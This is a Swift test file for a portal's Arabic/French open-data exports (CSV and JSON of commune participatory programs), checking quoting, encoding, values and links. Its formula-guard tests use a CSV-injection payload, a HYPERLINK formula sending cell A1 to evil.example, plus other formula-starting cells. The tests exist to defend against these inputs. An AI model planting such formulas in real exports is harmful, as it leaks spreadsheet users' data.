import Foundation
import XCTest
import SQLite
@testable import Portal

/// The downloads as a reuser gets them: a CSV that Excel and an RFC 4180 reader both read back
/// to what the store holds, a JSON with both languages, and a data page whose links all work.
final class OpenDataTests: XCTestCase {
    var portal: Portal!
    override func setUpWithError() throws { portal = try Portal() }
    override func tearDown() { portal = nil }

    let settat = "/ar/communes/settat/programs/2024-2025"

    /// A strict RFC 4180 reader: CRLF records, quoted fields with doubled quotes, line breaks
    /// allowed inside quotes. Fails the test on anything else (a bare quote, a lone LF).
    func parseCSV(_ text: Substring, file: StaticString = #filePath, line: UInt = #line) -> [[String]] {
        var records: [[String]] = []
        var record: [String] = []
        var field = ""
        var quoted = false
        var characters = text.unicodeScalars.makeIterator()
        var pending: Unicode.Scalar? = nil
        func next() -> Unicode.Scalar? {
            if let scalar = pending { pending = nil; return scalar }
            return characters.next()
        }
        while let c = next() {
            if quoted {
                if c == "\"" {
                    let after = next()
                    if after == "\"" { field.unicodeScalars.append("\"") } else { quoted = false; pending = after }
                } else { field.unicodeScalars.append(c) }
                continue
            }
            switch c {
            case "\"":
                XCTAssertTrue(field.isEmpty, "quote inside an unquoted field", file: file, line: line)
                quoted = true
            case ",": record.append(field); field = ""
            case "\r":
                XCTAssertEqual(next(), "\n", "CR without LF", file: file, line: line)
                record.append(field); field = ""
                records.append(record); record = []
            case "\n": XCTFail("bare LF line end", file: file, line: line)
            default: field.unicodeScalars.append(c)
            }
        }
        XCTAssertFalse(quoted, "unterminated quoted field", file: file, line: line)
        XCTAssertTrue(field.isEmpty && record.isEmpty, "last record not ended by CRLF", file: file, line: line)
        return records
    }

    func csv(_ path: String) throws -> [[String]] {
        let page = portal.get(path)
        XCTAssertEqual(page.status, 200)
        XCTAssertTrue(page.body.hasPrefix("\u{FEFF}"), "UTF-8 BOM so Excel reads Arabic")
        return parseCSV(page.body.dropFirst())
    }

    func program(_ slug: String) throws -> ProgramRecord {
        try portal.site.database.read { try ProgramStore.record($0, slug: slug, period: "2024-2025") }
    }

    func testSettatCSVHasOneRowPerActivityAndReadsBackToTheStore() throws {
        let page = portal.get(settat + ".csv")
        XCTAssertEqual(Array(page.body.utf8.prefix(3)), [0xEF, 0xBB, 0xBF])
        XCTAssertEqual(page.headers["Content-Type"], "text/csv; charset=utf-8")
        XCTAssertEqual(page.headers["Content-Disposition"], "attachment; filename=\"settat-2024-2025-ar.csv\"")
        let records = try csv(settat + ".csv")
        XCTAssertEqual(records.first, ["axis_number", "axis_title", "project_number", "project_title", "project_budget_dh",
                                       "activity_number", "activity_title", "partners", "cost_dh", "cost_text", "funding", "start", "end"])
        let rows = Array(records.dropFirst())
        XCTAssertEqual(rows.count, 12)
        XCTAssertTrue(rows.allSatisfy { $0.count == 13 })
        let program = try program("settat")
        let activities = program.projects.flatMap { project in project.activities.map { (project, $0) } }
        XCTAssertEqual(rows.count, activities.count)
        for (row, (project, activity)) in zip(rows, activities) {
            XCTAssertEqual(row[2], String(project.number))
            XCTAssertEqual(row[3], project.title.arabic)
            XCTAssertEqual(row[5], String(activity.number))
            XCTAssertEqual(row[6], activity.title.arabic)
            XCTAssertEqual(row[7], activity.partners.map(\.arabic).joined(separator: " ; "))
            XCTAssertEqual(row[8], "")
            XCTAssertEqual(row[9], activity.costText?.arabic)
            XCTAssertEqual(row[10], activity.funding?.arabic)
            XCTAssertEqual(row[11], activity.start)
            XCTAssertEqual(row[12], activity.end)
        }
        XCTAssertEqual(rows[2][7], "المديرية العامة للجماعات الترابية ; مؤسسة ENABEL")
        XCTAssertEqual(rows[1][7], "جامعة الحسن الأول")
        XCTAssertEqual(rows[0][0...1], ["1", "الميزانية التشاركية"])
    }

    func testFrenchCSVUsesFrenchWithArabicFallbackInOneColumn() throws {
        try portal.site.database.write { db in _ = try db.run("UPDATE activities SET title_fr = NULL WHERE id = 123") }
        let page = portal.get("/fr/communes/settat/programs/2024-2025.csv")
        XCTAssertEqual(page.headers["Content-Disposition"], "attachment; filename=\"settat-2024-2025-fr.csv\"")
        let rows = parseCSV(page.body.dropFirst()).dropFirst()
        XCTAssertEqual(rows.first?[1], "Budget participatif")
        XCTAssertEqual(rows.first?[10], "Autofinancement")
        XCTAssertTrue(rows.contains { $0[6] == "تخصيص مكتب للهيئة" }, "untranslated title falls back to Arabic")
    }

    func testCostsAndBudgetsAreDecimalDirhamsAndQuotingFollowsRFC4180() throws {
        let tricky = "عنوان، مع \"اقتباس\", comma\r\nand a new line"
        try portal.site.database.write { db in
            _ = try db.run("UPDATE activities SET title_ar = ?, cost_centimes = 2000050, cost_text_ar = NULL, cost_text_fr = NULL WHERE id = 211", [tricky])
        }
        let page = portal.get("/ar/communes/taroudant/programs/2024-2025.csv")
        XCTAssertTrue(page.body.contains("\"عنوان، مع \"\"اقتباس\"\", comma\r\nand a new line\""))
        let rows = Array(parseCSV(page.body.dropFirst()).dropFirst())
        XCTAssertEqual(rows.count, 26)
        XCTAssertEqual(rows[0][6], tricky)
        XCTAssertEqual(rows[0][8], "20000.50")
        XCTAssertEqual(rows[0][4], "20000.00", "project budget")
        XCTAssertEqual(rows.first { $0[2] == "5" }?[4], "200000.00")
        XCTAssertEqual(rows[1][8], "")
    }

    func testProjectsWithoutActivitiesOrAxisStillGetARow() throws {
        let rows = Array(try csv("/ar/communes/larache/programs/2024-2025.csv").dropFirst())
        let program = try program("larache")
        XCTAssertEqual(rows.count, program.projects.count)
        XCTAssertEqual(rows[0][0], "")
        XCTAssertEqual(rows[0][3], "تجويد آليات التواصل")
        XCTAssertEqual(Array(rows[0][5...]), Array(repeating: "", count: 8))
    }

    func testJSONHoldsTheWholeProgramInBothLanguages() throws {
        let page = portal.get("/ar/communes/taroudant/programs/2024-2025.json")
        XCTAssertEqual(page.status, 200)
        XCTAssertEqual(page.headers["Content-Type"], "application/json; charset=utf-8")
        let json = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(page.body.utf8)) as? [String: Any])
        let program = try program("taroudant")
        XCTAssertEqual((json["commune"] as? [String: Any])?["slug"] as? String, "taroudant")
        XCTAssertEqual(((json["commune"] as? [String: Any])?["name"] as? [String: Any])?["ar"] as? String, "جماعة تارودانت")
        XCTAssertEqual(json["period"] as? String, "2024-2025")
        XCTAssertEqual(json["status"] as? String, "draft")
        XCTAssertEqual(json["budget_centimes"] as? Int, 49500000)
        XCTAssertEqual((json["axes"] as? [Any])?.count, 4)
        let projects = try XCTUnwrap(json["projects"] as? [[String: Any]])
        XCTAssertEqual(projects.count, 8)
        XCTAssertEqual(projects.compactMap { $0["budget_centimes"] as? Int }.reduce(0, +), 49500000)
        let activities = projects.flatMap { ($0["activities"] as? [[String: Any]]) ?? [] }
        XCTAssertEqual(activities.count, program.activityCount)
        XCTAssertEqual(activities.count, 26)
        for (decoded, stored) in zip(projects, program.projects) {
            let title = try XCTUnwrap(decoded["title"] as? [String: Any])
            XCTAssertEqual(Array((title["ar"] as? String ?? "").utf8), Array(stored.title.arabic.utf8), "Arabic byte-exact")
            XCTAssertEqual(title["fr"] as? String, stored.title.french)
            XCTAssertEqual(decoded["number"] as? Int, stored.number)
            XCTAssertEqual((decoded["objectives"] as? [Any])?.count, stored.objectives.count)
        }
        XCTAssertEqual((projects[4]["slogan"] as? [String: Any])?["ar"] as? String, "خدمات جماعية مبتكرة ومتميزة في جماعة تارودانت")
        XCTAssertTrue(page.body.contains("المنصة التشاورية تارودانت"), "Arabic written as UTF-8, not \\u escapes")
    }

    func testJSONWritesNullForMissingFrenchAndSettatDetails() throws {
        try portal.site.database.write { db in _ = try db.run("UPDATE activities SET title_fr = NULL WHERE id = 123") }
        let page = portal.get("/fr/communes/settat/programs/2024-2025.json")
        let json = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(page.body.utf8)) as? [String: Any])
        let projects = try XCTUnwrap(json["projects"] as? [[String: Any]])
        XCTAssertEqual(projects.map { ($0["activities"] as? [Any])?.count ?? 0 }, [4, 4, 2, 2])
        let activity = try XCTUnwrap((projects[1]["activities"] as? [[String: Any]])?[2])
        let title = try XCTUnwrap(activity["title"] as? [String: Any])
        XCTAssertEqual(title["ar"] as? String, "تخصيص مكتب للهيئة")
        XCTAssertTrue(title["fr"] is NSNull, "untranslated is null, not a copy of the Arabic")
        XCTAssertTrue(activity["cost_centimes"] is NSNull)
        XCTAssertEqual((activity["cost_text"] as? [String: Any])?["ar"] as? String, "-")
        let partners = try XCTUnwrap(projects[0]["partners"] as? [[String: Any]])
        XCTAssertEqual((partners[2]["name"] as? [String: Any])?["ar"] as? String, "جامعة الحسن الأول")
        XCTAssertEqual((partners[2]["contribution"] as? [String: Any])?["ar"] as? String, "تنظيم لقاءات وأنشطة علمية حول الموضوع.")
        XCTAssertEqual(partners[2]["listed"] as? Bool, true)
        XCTAssertEqual((partners[1]["description"] as? [String: Any])?["ar"] as? String, "برنامج دعم المشاركة المواطنة", "the note beside ENABEL")
        XCTAssertEqual(json["data_as_of"] as? String, "2023-10", "the document's date")
        XCTAssertEqual(json["period_inferred"] as? Bool, false)
        XCTAssertEqual(projects[0]["axis_number"] as? Int, 1)
        XCTAssertEqual((projects[0]["follow_up_indicators"] as? [Any])?.count, 1)
        XCTAssertEqual(portal.get("/fr/communes/settat/programs/2024-2025.json").body, page.body, "stable output")
    }

    func testUnknownProgramDownloadsAre404() {
        XCTAssertEqual(portal.get("/ar/communes/settat/programs/2022-2023.csv").status, 404)
        XCTAssertEqual(portal.get("/ar/communes/nowhere/programs/2024-2025.json").status, 404)
    }

    func testDataPageListsEveryProgramAndEveryLinkResolves() throws {
        portal.resetQueryCount()
        let page = portal.get("/ar/data")
        XCTAssertEqual(portal.site.database.queryCount, 4, "regions, their count, a page of communes, their programs")
        XCTAssertEqual(page.status, 200)
        for name in ["جماعة سطات", "جماعة تارودانت", "جماعة العرائش", "جماعة بني ملال", "جماعة تجريبية"] {
            XCTAssertTrue(page.contains(name), name)
        }
        XCTAssertTrue(page.contains("<code>cost_dh</code>") && page.contains("budget_centimes"), "columns and JSON shape are described")
        let regex = try NSRegularExpression(pattern: #"href="(/ar/communes/[a-z0-9-]+/programs/[0-9-]+\.(?:csv|json))""#)
        let links = regex.matches(in: page.body, range: NSRange(page.body.startIndex..., in: page.body)).map {
            String(page.body[Range($0.range(at: 1), in: page.body)!])
        }
        XCTAssertEqual(links.count, 12, "a CSV and a JSON for each of the 6 programs")
        for link in links { XCTAssertEqual(portal.get(link).status, 200, link) }
        XCTAssertEqual(portal.get("/fr/data").status, 200)
        XCTAssertTrue(portal.get("/fr/data").contains("href=\"/fr/communes/settat/programs/2024-2025.csv\""))
        // Another page of the list (here narrowed to a name) links to the columns instead of repeating them.
        for language in ["ar", "fr"] {
            let narrowed = portal.get("/\(language)/data?q=" + (language == "ar" ? "سطات" : "Settat").addingPercentEncoding(withAllowedCharacters: .alphanumerics)!)
            XCTAssertEqual(narrowed.status, 200)
            XCTAssertTrue(narrowed.contains("/\(language)/communes/settat/programs/2024-2025.csv"), narrowed.body)
            XCTAssertFalse(narrowed.contains("<code>cost_dh</code>") || narrowed.contains("budget_centimes"), "\(language): the columns are on the first page only")
            XCTAssertTrue(narrowed.contains("href=\"/\(language)/data#data-csv\""), "\(language): a link to them")
        }
    }
}

/// Open data never hands a spreadsheet a formula (issue 15): a cell that would start one is
/// written behind an apostrophe, and read back without it.
final class CSVFormulaTests: XCTestCase {
    func testFormulaLikeCellsAreGuardedAndRoundTrip() throws {
        for (value, written) in [("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
                                 ("@SUM(1+1)", "'@SUM(1+1)"), ("+212 600", "'+212 600"), ("-1+1", "'-1+1"), ("\t=1", "'\t=1"),
                                 ("'=1", "''=1"), ("-", "-"), ("'", "'"), ("a=b", "a=b"), ("", "")] {
            XCTAssertEqual(CSV.field(value), written, value)
            guard case .success(let records) = CSV.read(Array(("x," + CSV.field(value) + "\r\n").utf8)) else { return XCTFail(value) }
            XCTAssertEqual(records.first?.fields.last ?? "", value, "round trip of \(value)")
        }
    }

    /// Found by Tests/Fuzz (CSV): a comma, quote or line break followed by a combining mark is
    /// one Character with it, so the field was not quoted and read back as two fields (or not at
    /// all); and "=" followed by a mark escaped the formula guard, though a spreadsheet sees the "=".
    func testSeparatorsAndFormulaStartsBeforeCombiningMarks() throws {
        for value in [",\u{0301}", "a\"\u{064E}b", "x\n\u{0651}", "=\u{0301}1+1", "@\u{0654}SUM(1)", "-\u{0301}", "'=\u{0301}", "'\u{0301}=1"] {
            let document = CSV.document([["x", value]])
            guard case .success(let records) = CSV.read(document) else { XCTFail(value.debugDescription); continue }
            XCTAssertEqual(records.map { $0.fields.map { Array($0.utf8) } }, [[Array("x".utf8), Array(value.utf8)]], value.debugDescription)
        }
        XCTAssertEqual(CSV.field("=\u{0301}1+1"), "'=\u{0301}1+1")
        XCTAssertEqual(CSV.field("-\u{0301}"), "'-\u{0301}", "only the lone '-' stays unguarded")
        XCTAssertEqual(CSV.field("'\u{0301}=1"), "'\u{0301}=1", "the apostrophe is followed by a mark, not a formula")
    }

    func testAnIdeaTitledAsAFormulaIsTextInTheProposalsFile() throws {
        let portal = try Portal()
        try portal.site.database.write { db in
            try db.run("""
                INSERT INTO proposals (program_id, call_id, axis_id, kind, title, description, channel, tracking_code, created_at)
                VALUES (5, 501, 51, 'idea', '=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(1+1)', 'platform', ?, '2026-01-01T10:00:00Z')
                """, [TrackingCode.make()])
        }
        let file = portal.get("/fr/communes/demo/programs/2025-2026/proposals.csv").body
        XCTAssertTrue(file.contains("\"'=HYPERLINK("), file)
        XCTAssertTrue(file.contains(",'@SUM(1+1)"))
        XCTAssertFalse(file.contains(",=") || file.contains(",\"=") || file.contains(",@"), "no cell starts a formula")
    }
}
